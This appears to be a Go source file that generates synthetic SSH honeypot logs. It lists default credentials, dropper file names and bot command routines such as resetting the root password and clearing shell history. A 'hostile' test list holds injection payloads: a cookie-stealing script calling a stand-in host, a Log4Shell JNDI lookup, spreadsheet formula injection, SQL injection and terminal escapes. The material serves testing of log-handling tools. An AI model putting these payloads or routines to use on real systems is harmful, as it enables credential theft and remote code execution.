package synth

var userNames = []string{
	"root", "root", "root", "root", "root", "root", "admin", "admin", "ubuntu", "user",
	"test", "guest", "support", "pi", "oracle", "postgres", "git", "deploy", "ftpuser",
	"nagios", "hadoop", "mysql", "service", "operator", "www-data", "ec2-user", "debian",
}

var passwords = []string{
	"root", "admin", "123456", "password", "12345678", "1234", "toor", "qwerty", "changeme",
	"letmein", "default", "raspberry", "support", "test123", "P@ssw0rd", "1q2w3e4r", "abc123",
	"111111", "ubuntu", "guest", "welcome1", "system", "zaq12wsx", "p4ssw0rd", "0000", "",
}

var banners = []string{
	"SSH-2.0-Go", "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0",
	"SSH-2.0-OpenSSH_8.2p1", "SSH-2.0-OpenSSH_9.6p1", "SSH-2.0-paramiko_3.4.0",
	"SSH-2.0-PUTTY", "SSH-2.0-AsyncSSH_2.14.2", "SSH-2.0-JSCH-0.2.16", "SSH-2.0-survey",
}

// oddBanners come from clients that do not speak SSH.
var oddBanners = []string{
	"GET / HTTP/1.1", "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", "HELP",
	"b'\\x16\\x03\\x01\\x02\\x00\\x01'", "\x00\x00\x00\x00", "OPTIONS sip:probe@scan.test SIP/2.0",
}

// hostile is text that an attacker might type to hurt whoever reads the log:
// a terminal, a browser, a spreadsheet, or a person.
var hostile = []string{
	"\x1b[2J\x1b[31mroot\x1b[0m", "<script>fetch('http://x.test/'+document.cookie)</script>",
	"=HYPERLINK(\"http://x.test/\",\"open\")", "\u202egpj.exe\u202c", "a\x00b",
	"'; DROP TABLE sessions; --", "p\u00e4ssw\u00f6rd", "\u5bc6\u7801", "\U0001f600",
	"+cmd|' /C calc'!A0", "${jndi:ldap://x.test/a}", "\x1b]0;owned\x07", "b'\\xff\\xfe\\x00'",
	"%s%s%n", "line\r\nbreak\ttab", "\\\"quoted\\\"", "\u2066admin\u2069", "@SUM(1+1)*cmd",
}

// routines are what bots type once they are in. Written for this package.
var routines = [][]string{
	{"uname -a"},
	{"uname -s -v -n -r -m", "nproc"},
	{"cat /proc/cpuinfo | grep name | wc -l"},
	{"enable", "system", "shell", "sh", "/bin/busybox SYNTH"},
	{"echo -e \"\\x73\\x79\\x6e\"", "cat /proc/mounts", "/bin/busybox PROBE"},
	{"whoami", "id", "cat /etc/os-release | head -n 2"},
	{"w", "uptime", "free -m | grep Mem | awk '{print $2}'", "lscpu | grep Model", "crontab -l"},
	{"cd /tmp || cd /var/run || cd /mnt; ls -la"},
	{"ps aux | grep -v grep | grep miner", "pkill -9 miner", "history -c"},
	{"echo \"root:tr0ub4dor\"|chpasswd|bash"},
	{"ip route show default", "cat /etc/resolv.conf"},
}

var failing = []string{
	"lspci -k", "nvidia-smi -q", "Enter new password:", "lsb_release -a", "screen -ls", "rpm -qa", "dmidecode",
}

var fileNames = []string{
	"arm7", "arm5", "mips", "mpsl", "x86_64", "i686", "sh4", "ppc", "bins.sh", "w.sh", "update",
	"kworkerd", "sshd", "setup.sh", "loader", "run", "miner.tgz", "cron.sh", "8UsA.sh", "dropper",
}

var fileDirs = []string{"/", "/bins/", "/d/", "/.x/", "/files/", "/u/"}

var hostNames = []string{
	"cdn.files.example", "dl.boxes.test", "a.loader.test", "mirror.invalid", "192.0.2.77",
	"198.51.100.23", "203.0.113.201:8080", "198.18.44.7", "198.19.3.250", "get.update.example",
	"drop.test", "static.parts.test", "198.51.100.200", "node7.swarm.invalid",
}

// forwards are where attackers want to be forwarded.
var forwards = []struct {
	host string
	port int
}{
	{"www.shop.example", 443}, {"mail.post.example", 25}, {"192.0.2.80", 80}, {"api.chat.example", 443},
	{"198.51.100.9", 443}, {"ip.check.test", 80}, {"smtp.letters.test", 587}, {"198.18.200.3", 8443},
}

// requests are what they send there, as Python's repr of the bytes.
var requests = []string{
	`'GET / HTTP/1.1\r\nHost: ip.check.test\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n'`,
	`'CONNECT www.shop.example:443 HTTP/1.1\r\nHost: www.shop.example:443\r\n\r\n'`,
	`'EHLO probe.test\r\n'`,
	`'\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03S\x9e\x04\xd1\x1f\xb2\x8a\xc4\x00\x00\x1c\xc0+\xc0/\xc0,\xc00\x00\x9e\x00\x9f'`,
}

var arches = []string{"linux-x64-lsb", "linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "linux-x86-lsb"}

var variables = [][2]string{{"LANG", "en_US.UTF-8"}, {"LC_ALL", "C.UTF-8"}, {"COLORTERM", "truecolor"}, {"LANG", "C"}}

var terminals = [][2]int{{80, 24}, {120, 30}, {0, 0}, {100, 40}, {211, 55}}
